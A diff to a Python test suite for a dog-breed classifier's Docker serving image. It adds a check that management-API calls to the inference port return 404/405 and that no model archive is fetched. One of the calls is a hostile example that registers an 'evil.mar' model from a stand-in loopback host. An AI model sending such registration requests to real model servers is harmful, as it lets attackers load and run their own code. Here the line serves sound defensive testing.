@@ -108,6 +108,43 @@ def _first_answer(url: str, body: bytes, headers: dict, timeout: float = 180) ->
     return status, answer
 
 
+# A would-be model archive host inside the serve container's own network namespace (its loopback): the container
+# could reach it, so a management API on the inference port would fetch from it. It records every request.
+_ARCHIVE_HOST = """
+import http.server
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        open('/tmp/archive-hits', 'a').write(self.path + chr(10))
+        self.send_response(200); self.send_header('Content-Length', '0'); self.end_headers()
+http.server.HTTPServer(('127.0.0.1', 9911), H).serve_forever()
+"""
+_MANAGEMENT_CALLS = [("POST", "/models?url=http://127.0.0.1:9911/evil.mar&model_name=evil&handler=evil:handle"
+                              "&initial_workers=1&synchronous=true"),
+                     ("GET", "/models"), ("PUT", "/models/model?min_worker=0&synchronous=true"),
+                     ("DELETE", "/models/model")]
+
+
+def _assert_no_management_api(name: str, url: str) -> None:
+    """An attacker on the container's published port: every management call is 404/405 and nothing is fetched."""
+    import urllib.request
+
+    sh("docker", "exec", "-d", name, "python", "-c", _ARCHIVE_HOST)
+    listening = "import socket; socket.create_connection(('127.0.0.1', 9911), 2)"
+    deadline = time.time() + 30
+    while sh("docker", "exec", name, "python", "-c", listening, check=False).returncode != 0:
+        assert time.time() < deadline, "the archive host in the container did not start"
+        time.sleep(0.5)
+    for method, path in _MANAGEMENT_CALLS:
+        request = urllib.request.Request(url + path, method=method, data=b"" if method in ("POST", "PUT") else None)
+        try:
+            status = urllib.request.urlopen(request, timeout=30).status
+        except urllib.error.HTTPError as exc:
+            status = exc.code
+        assert status in (404, 405), (method, path, status)
+    hits = sh("docker", "exec", name, "sh", "-c", "cat /tmp/archive-hits 2>/dev/null || true").stdout
+    assert hits == "", f"the serve container fetched {hits!r}"
+
+
 def test_docker_run_serve_native_answers_and_exits_0_on_sigterm(images, trained):
     """DOGBREED_SERVER=native in the serve image: no JVM in the container, /ping and /invocations answer,
     and SIGTERM (docker stop) ends the container with exit code 0."""
@@ -123,6 +160,7 @@ def test_docker_run_serve_native_answers_and_exits_0_on_sigterm(images, trained)
         assert status == 200, answer
         assert [r["breed"] for r in answer["predictions"][0]] == expected[:2]
         assert get(url, "/ping")[0] == 200
+        _assert_no_management_api(name, url)
         processes = sh("docker", "top", name).stdout
         assert "java" not in processes and "dogbreed.serving.server" in processes, processes
         start = time.time()
@@ -153,6 +191,8 @@ def test_docker_run_serve_classifies_and_stops_in_time(images, trained, tmp_path
         assert [r["breed"] for r in rows][:1] == ["Affenpinscher"] and len(rows) == 3, rows
         assert rows[0]["probability"] == pytest.approx(probability, abs=0.05)
         assert len({r["breed"] for r in rows}) == 3 and rows == sorted(rows, key=lambda r: -r["probability"])
+        _assert_no_management_api(name, url)
+        assert post(url, body)[0] == 200  # the model is still served
     finally:
         start = time.time()
         sh("docker", "stop", "-t", "30", name, check=False)
